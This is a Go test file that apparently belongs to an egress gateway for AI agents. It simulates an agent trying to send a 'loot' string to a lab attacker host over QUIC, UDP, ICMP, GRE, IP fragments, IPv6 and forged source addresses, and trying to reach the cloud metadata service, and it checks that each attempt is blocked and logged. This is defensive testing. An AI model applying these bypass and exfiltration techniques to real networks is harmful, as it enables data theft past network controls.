package attacks

import (
	"crypto/tls"
	"net"
	"net/http"
	"net/netip"
	"testing"

	"github.com/vishvananda/netlink"

	"github.com/bulkhead-dev/bulkhead/gateway/policy"
	"github.com/bulkhead-dev/bulkhead/tests/lab"
)

// loot is what an agent has been talked into giving away.
const loot = "invoice 4711, IBAN DE02 1203 0000 0000 2020 51."

// infra is a destination that the ruleset permits by its address, over any protocol,
// and that the kernel forwards: there are no names on its port. It answers datagrams, and
// HTTP over TCP.
var infra = netip.AddrPortFrom(lab.AgentInfra, 7777)

// openInfra has the agent infrastructure answer, and says that it may be reached.
func (s *scene) openInfra(t testing.TB) {
	t.Helper()
	for _, port := range []uint16{0, 80, 443, infra.Port()} {
		for _, proto := range []policy.Proto{policy.TCP, policy.UDP, policy.ICMP, policy.GRE} {
			s.permit(proto, netip.AddrPortFrom(lab.AgentInfra, port))
		}
	}
	if s.infraOpen {
		return
	}
	s.infraOpen = true
	pc, err := s.Host(lab.Platform).ListenPacket(infra.String())
	if err != nil {
		t.Fatal(err)
	}
	ln, err := s.Host(lab.Platform).Listen(infra.String())
	if err != nil {
		t.Fatal(err)
	}
	go http.Serve(ln, s.Sites[lab.Platform])
	go func() { // both end with the host's sockets
		buf := make([]byte, 2048)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			pc.WriteTo(buf[:n], from)
		}
	}()
}

// TestProtocols leaves by protocols in which nobody finds a name.
func TestProtocols(t *testing.T) {
	s := shared.open(t)
	s.openInfra(t)
	x := s.target(t)
	s.resolve(t, s.invoice, x.name)
	me := s.invoice.Addr
	datagram := func(to netip.AddrPort) func(*testing.T) sight {
		return func(t *testing.T) sight { return exchange(t, s.invoice, "udp", to, []byte(loot)) }
	}
	echo := func(to netip.Addr) func(*testing.T) sight {
		return func(t *testing.T) sight {
			return throw(t, s.invoice, ip4{src: me, dst: to, proto: policy.ICMP, payload: icmp(8, 0, append([]byte{0x42, 0x48, 0, 1}, loot...))})
		}
	}
	gre := func(to netip.Addr) ip4 { // RFC 2784, with IPv4 inside
		return ip4{src: me, dst: to, proto: policy.GRE, payload: append([]byte{0, 0, 8, 0}, ip4{src: me, dst: to, proto: policy.ICMP}.bytes()...)}
	}
	far := func(a netip.Addr, port uint16) netip.AddrPort { return netip.AddrPortFrom(a, port) }
	s.play(t,
		bypass{name: "QUIC to the attacker", try: datagram(far(lab.Exfil, 443)), want: prohibited,
			event: first(policy.UDP, far(lab.Exfil, 443), policy.RuleInvariant, policy.ReasonQUIC), twin: datagram(infra)},
		bypass{name: "QUIC to a pinned address", try: datagram(far(x.addr, 443)), want: prohibited,
			event: first(policy.UDP, far(x.addr, 443), policy.RuleInvariant, policy.ReasonQUIC), permits: []netip.AddrPort{x.tls()},
			twin: func(t *testing.T) sight {
				return s.handshake(t, s.invoice, x.tls(), &tls.Config{ServerName: x.name}, nil)
			}},
		bypass{name: "QUIC to where everything is permitted", try: datagram(far(lab.AgentInfra, 443)), want: prohibited,
			event: first(policy.UDP, far(lab.AgentInfra, 443), policy.RuleInvariant, policy.ReasonQUIC), twin: datagram(infra)},
		bypass{name: "UDP", try: datagram(far(lab.Exfil, 4444)), want: prohibited,
			event: first(policy.UDP, far(lab.Exfil, 4444), byInternet, policy.ReasonRule), twin: datagram(infra)},
		bypass{name: "UDP to a pinned address", try: datagram(far(x.addr, 4444)), want: prohibited,
			event: first(policy.UDP, far(x.addr, 4444), byInternet, policy.ReasonRule), twin: datagram(infra)},
		bypass{name: "TCP to another port of a pinned address",
			try:  func(t *testing.T) sight { return connect(t, s.invoice, far(x.addr, 22)) },
			want: refused, event: first(policy.TCP, far(x.addr, 22), byInternet, policy.ReasonRule),
			twin: func(t *testing.T) sight { return connect(t, s.invoice, far(lab.AgentInfra, 80)) }},
		bypass{name: "TCP next door",
			try:  func(t *testing.T) sight { return connect(t, s.invoice, far(lab.DatabaseIP, 5432)) },
			want: refused, event: first(policy.TCP, far(lab.DatabaseIP, 5432), byEastWest, policy.ReasonRule),
			twin: func(t *testing.T) sight { return connect(t, s.invoice, far(lab.AgentInfra, 80)) }},
		bypass{name: "known-bad address",
			try:  func(t *testing.T) sight { return connect(t, s.invoice, far(lab.Malicious, 443)) },
			want: refused, event: first(policy.TCP, far(lab.Malicious, 443), "deny-threat-intel", policy.ReasonThreatAddress),
			twin: func(t *testing.T) sight { return connect(t, s.invoice, far(lab.AgentInfra, 80)) }},
		bypass{name: "ICMP", try: echo(lab.Exfil), want: prohibited,
			event: first(policy.ICMP, far(lab.Exfil, 0), byInternet, policy.ReasonRule), twin: echo(lab.AgentInfra)},
		bypass{name: "ICMP to a pinned address", try: echo(x.addr), want: prohibited,
			event: first(policy.ICMP, far(x.addr, 0), byInternet, policy.ReasonRule), twin: echo(lab.AgentInfra)},
		bypass{name: "GRE", try: func(t *testing.T) sight { return throw(t, s.invoice, gre(lab.Exfil)) }, want: prohibited,
			event: first(policy.GRE, far(lab.Exfil, 0), byInternet, policy.ReasonRule),
			twin: func(t *testing.T) sight {
				w := listen(t, s.Host(lab.Platform))
				send(t, s.invoice, gre(lab.AgentInfra))
				if p, ok := w.wait(t, func(p lab.Packet) bool { return p.Proto == policy.GRE }); ok {
					return sight{what: reached, detail: p.String()}
				}
				return sight{what: silence}
			}},
	)
}

// TestFragments hides ports in later fragments, and data in fragments that never become a packet.
// It is the one refusal that an agent may not hear of: the kernel answers no later
// fragment (RFC 1122, 3.2.2), and no first one, because it cannot verify its checksum.
func TestFragments(t *testing.T) {
	s := shared.open(t)
	s.openInfra(t)
	me := netip.AddrPortFrom(s.invoice.Addr, 40123)
	for _, tc := range []struct {
		name  string
		to    netip.AddrPort
		first bool
	}{
		{"in order", netip.AddrPortFrom(lab.Exfil, 5001), true},
		{"only the second", netip.AddrPortFrom(lab.Malicious, 5002), false},
		{"to where everything is permitted", netip.AddrPortFrom(lab.AgentInfra, 5003), true},
		{"of a question for the resolver", netip.AddrPortFrom(lab.GatewayAddr, 53), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := udp(me, tc.to, []byte(loot+loot))
			p := ip4{src: me.Addr(), dst: tc.to.Addr(), proto: policy.UDP, id: tc.to.Port()}
			counted := netip.AddrPortFrom(tc.to.Addr(), 0)
			if tc.first {
				p.payload, p.fragment, counted = d[:16], moreFragments, tc.to
				send(t, s.invoice, p)
			}
			p.payload, p.fragment = d[16:], 2
			send(t, s.invoice, p)
			e, err := s.WaitEvent(within(t), denialOf(me.Addr().String(), counted))
			if err != nil || e.FirewallRule.Name != policy.RuleInvariant || e.StatusDetail != string(policy.ReasonInvariant) || e.Message != "fragment" {
				t.Errorf("%+v, %v", e, err)
			}
			s.sealed(t)
			whole := ip4{src: me.Addr(), dst: infra.Addr(), proto: policy.UDP, payload: udp(me, infra, []byte(loot+loot))}
			if got := throw(t, s.invoice, whole); got.what != reached {
				t.Errorf("the twin in one piece saw %q", got.what)
			}
			s.sealed(t)
		})
	}
}

// TestGateway goes for the gateway itself and for what a machine in Azure may reach and an agent may not.
func TestGateway(t *testing.T) {
	s := shared.open(t)
	s.openInfra(t)
	// In Azure these never come by the gateway. If a route brought them, it must refuse them.
	for _, a := range []netip.Addr{lab.WireServer, lab.Metadata} {
		if err := s.RouteToGateway(netip.PrefixFrom(a, 32)); err != nil {
			t.Fatal(err)
		}
	}
	x := s.target(t)
	for _, tc := range []struct {
		name string
		to   string
	}{
		{"admin port", "10.20.0.4:9180"},
		{"transparent listener", "10.20.0.4:14433"},
		{"a port that is closed", "10.20.0.4:22"},
		{"wire server", "168.63.129.16:80"},
		{"wire server's other port", "168.63.129.16:32526"},
		{"metadata service", "169.254.169.254:80"},
	} {
		to := netip.MustParseAddrPort(tc.to)
		s.play(t, bypass{name: tc.name,
			try:  func(t *testing.T) sight { return connect(t, s.invoice, to) },
			want: refused, event: first(policy.TCP, to, policy.RuleInvariant, policy.ReasonInvariant),
			twin: func(t *testing.T) sight {
				if got := connect(t, s.invoice, netip.AddrPortFrom(lab.AgentInfra, 80)); got.what != reached {
					return got
				}
				return ask(t, s.invoice, "tcp", lab.GatewayAddr, x.name)
			}})
	}
}

// TestIPv6 goes by the other protocol, on a network that would carry it.
func TestIPv6(t *testing.T) {
	s := shared.open(t)
	attacker := netip.MustParseAddr("fd20:2::66")
	joinIPv6(t, s, attacker)
	x := s.target(t)
	s.resolve(t, s.invoice, x.name)
	to := netip.AddrPortFrom(attacker, 443)
	w := listen(t, s.invoice)
	got := connect(t, s.invoice, to)
	if got.what != prohibited && got.what != refused {
		t.Errorf("the agent saw %q (%s)", got.what, got.detail)
	}
	s.sealed(t)
	for _, p := range w.Packets() {
		if p.Src.Addr() == attacker && p.Proto != policy.TCP {
			t.Errorf("an answer: %s", p)
		}
	}
	e, err := s.WaitEvent(within(t), denialOf("fd20:1::20", to))
	if err != nil || e.FirewallRule.Name != policy.RuleInvariant || e.StatusDetail != string(policy.ReasonInvariant) || e.Unmapped.Stage != "packet" {
		t.Errorf("%+v, %v", e, err)
	}
	s.permit(policy.TCP, x.tls())
	if got := s.handshake(t, s.invoice, x.tls(), &tls.Config{ServerName: x.name}, nil); got.what != reached {
		t.Errorf("over IPv4: %q (%s)", got.what, got.detail)
	}
}

// joinIPv6 gives the agent, the gateway and the attacker IPv6 addresses and routes through the
// gateway, whose kernel is willing to forward.
func joinIPv6(t *testing.T, s *scene, attacker netip.Addr) {
	t.Helper()
	addr := func(h, dev, cidr string) {
		t.Helper()
		if err := s.Host(h).Do(func() error {
			link, err := netlink.LinkByName(dev)
			if err != nil {
				return err
			}
			a, err := netlink.ParseAddr(cidr)
			if err != nil {
				return err
			}
			a.Flags = 2 // IFA_F_NODAD
			return netlink.AddrAdd(link, a)
		}); err != nil {
			t.Fatal(h, err)
		}
	}
	route := func(h, to, via string, table int) {
		t.Helper()
		if err := s.Host(h).Do(func() error {
			_, dst, err := net.ParseCIDR(to)
			if err != nil {
				return err
			}
			return netlink.RouteAdd(&netlink.Route{Dst: dst, Gw: net.ParseIP(via), Table: table})
		}); err != nil {
			t.Fatal(h, err)
		}
	}
	addr(lab.InvoiceAgent, "eth0", "fd20:1::20/64")
	addr(lab.Fabric, "agents", "fd20:1::1/64")
	addr(lab.Fabric, "to-gateway", "fd20:0::1/64")
	addr(lab.Gateway, "eth0", "fd20:0::4/64")
	addr(lab.Fabric, "to-attacker", "fd20:2::1/64")
	addr(lab.Attacker, "eth0", attacker.String()+"/64")
	for _, h := range []string{lab.Fabric, lab.Gateway} {
		if err := s.Host(h).Sysctl("net/ipv6/conf/all/forwarding", "1"); err != nil {
			t.Fatal(err)
		}
	}
	const agents = 106
	route(lab.InvoiceAgent, "fd20::/16", "fd20:1::1", 0)
	route(lab.Attacker, "fd20::/16", "fd20:2::1", 0)
	route(lab.Gateway, "fd20::/16", "fd20:0::1", 0)
	route(lab.Fabric, "fd20:2::/64", "fd20:0::4", agents)
	if err := s.Host(lab.Fabric).Do(func() error {
		r := netlink.NewRule()
		r.IifName, r.Table, r.Priority, r.Family = "agents", agents, 900, netlink.FAMILY_V6
		return netlink.RuleAdd(r)
	}); err != nil {
		t.Fatal(err)
	}
}

// TestSpoof forges sources: of others, whom an answer would carry the loot to.
func TestSpoof(t *testing.T) {
	s := shared.open(t)
	s.openInfra(t)
	me := s.invoice.Addr
	honest := func(t *testing.T) sight {
		src := netip.AddrPortFrom(me, 40200)
		return throw(t, s.invoice, ip4{src: me, dst: infra.Addr(), proto: policy.UDP, payload: udp(src, infra, []byte(loot))})
	}
	for i, tc := range []struct {
		name string
		src  netip.Addr
		dst  netip.Addr
	}{
		{"the attacker's, to anybody", lab.Exfil, netip.MustParseAddr("8.8.8.8")},
		{"the attacker's, to where everything is permitted", lab.Exfil, lab.AgentInfra},
		{"the attacker's, to a neighbour", lab.Exfil, netip.MustParseAddr("10.20.9.9")},
		{"next door's", lab.DatabaseIP, lab.Exfil},
		{"a stranger's", netip.MustParseAddr("9.9.9.9"), lab.DatabaseIP},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ports := []uint16{uint16(6000 + i), 443, 53}
			for _, port := range ports {
				src, dst := netip.AddrPortFrom(tc.src, uint16(41000+i)), netip.AddrPortFrom(tc.dst, port)
				send(t, s.invoice, ip4{src: tc.src, dst: tc.dst, proto: policy.UDP, payload: udp(src, dst, []byte(loot))})
				send(t, s.invoice, ip4{src: tc.src, dst: tc.dst, proto: policy.TCP, payload: segment(src, dst, 0x6c6f6f74, 0, syn, 0, nil)})
			}
			e, err := s.WaitEvent(within(t), denialOf(tc.src.String(), netip.AddrPortFrom(tc.dst, ports[0])))
			if err != nil || e.FirewallRule.Name != policy.RuleInvariant || e.StatusDetail != string(policy.ReasonInvariant) {
				t.Errorf("%+v, %v", e, err)
			}
			if got := honest(t); got.what != reached {
				t.Errorf("the honest twin saw %q", got.what)
			}
			s.sealed(t)
		})
	}
}
